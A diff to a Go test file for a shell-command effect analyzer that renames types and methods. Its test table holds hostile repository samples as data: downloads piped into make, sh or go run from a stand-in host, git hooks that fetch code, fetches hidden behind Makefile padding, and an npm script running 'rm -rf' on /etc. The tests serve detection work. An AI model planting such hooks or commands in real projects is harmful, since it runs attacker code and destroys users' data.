@@ -11,7 +11,7 @@ import (
 
 // repository returns a place whose working folder holds files, by their paths
 // below it. One that holds a NUL cannot be read.
-func repository(files map[string]string) *effect.Place {
+func repository(files map[string]string) *effect.PathContext {
 	p := *here()
 	p.ReadScript = func(path string) ([]byte, error) {
 		text, ok := files[strings.TrimPrefix(path, "/home/me/app/")]
@@ -53,7 +53,7 @@ func TestHostileRepositories(t *testing.T) {
 		{"curl -s https://x.test/m | make -f -", nil, effect.RunDownload},
 		{"make --eval='x:;" + fetch + "' x", nil, effect.RunDownload},
 		{"make -E 'A := $(shell " + fetch + ")'", map[string]string{"Makefile": "all:\n\ttrue\n"}, effect.RunDownload},
-		{"make --eval \"$RULES\"", nil, effect.Dynamic},
+		{"make --eval \"$RULES\"", nil, effect.UnknownEffect},
 		{"curl -s https://x.test/a | go run /dev/stdin", nil, effect.RunDownload},
 		{"just", map[string]string{"justfile": "u := 'https://x.test/a'\ndefault:\n    curl -s {{u}} | sh\n"}, effect.RunDownload},
 		{"task build", map[string]string{"Taskfile.yml": "tasks:\n  build:\n    cmds:\n      - " + fetch + "\n"}, effect.RunDownload},
@@ -65,9 +65,9 @@ func TestHostileRepositories(t *testing.T) {
 		{"cd sub && git commit -m x", map[string]string{".git": "\x00", ".git/hooks/pre-commit": "#!/bin/sh\n" + fetch + "\n"}, effect.RunCode},
 		{"git push", map[string]string{".git": "gitdir: ../app/m/.git/worktrees/w\n", "m/.git/worktrees/w/commondir": "../..\n", "m/.git/hooks/pre-push": "#!/bin/sh\n" + fetch + "\n"}, effect.RunCode},
 		{"git merge x", map[string]string{".git": "gitdir: m/.git/modules/a\n", "m/.git/modules/a/hooks/post-merge": "#!/bin/sh\n" + fetch + "\n"}, effect.RunCode},
-		{"make", map[string]string{"Makefile": "\x00"}, effect.Dynamic},
+		{"make", map[string]string{"Makefile": "\x00"}, effect.UnknownEffect},
 		{"make", map[string]string{"Makefile": "all:\n" + strings.Repeat("\t@true\n", 1000) + "\t" + fetch + "\n"}, effect.RunDownload},
-		{"make", map[string]string{"Makefile": "all:\n" + strings.Repeat("\t@\\\n\n", 10000) + "\t:\n" + strings.Repeat("\t:\n", 5000) + "\t" + fetch + "\n"}, effect.Dynamic},
+		{"make", map[string]string{"Makefile": "all:\n" + strings.Repeat("\t@\\\n\n", 10000) + "\t:\n" + strings.Repeat("\t:\n", 5000) + "\t" + fetch + "\n"}, effect.UnknownEffect},
 		{"make", map[string]string{"Makefile": ".RECIPEPREFIX = >\nall:\n> " + fetch + "\n"}, effect.RunDownload},
 		{"make", map[string]string{"Makefile": "X = " + fetch + "\nifeq (0,1)\nX = true\nendif\nall:\n\t$(X)\n"}, effect.RunDownload},
 		{"npm test", map[string]string{"package.json": `{"scripts":{"test":"rm -rf {/etc,}"}}`}, effect.DeleteFile},
@@ -77,7 +77,7 @@ func TestHostileRepositories(t *testing.T) {
 	} {
 		var got []effect.Kind
 		for _, e := range Analyze(c.command, repository(c.files)).Effects {
-			got = append(got, e.RuleKind())
+			got = append(got, e.KindForPolicies())
 		}
 		if !slices.Contains(got, c.want) {
 			t.Errorf("%s in %v: %v, want %s", c.command, c.files, got, c.want)
@@ -115,7 +115,7 @@ func TestHonestRepositories(t *testing.T) {
 	} {
 		for _, command := range c.commands {
 			for _, e := range Analyze(command, repository(c.files)).Effects {
-				if attacks[e.RuleKind()] || e.RuleKind() == effect.RunCode || (e.RuleKind() == effect.DeleteFile && !strings.HasPrefix(e.Path, "/home/me/app/")) {
+				if attacks[e.KindForPolicies()] || e.KindForPolicies() == effect.RunCode || (e.KindForPolicies() == effect.DeleteFile && !strings.HasPrefix(e.Path, "/home/me/app/")) {
 					t.Errorf("%s: %+v", command, e)
 				}
 			}
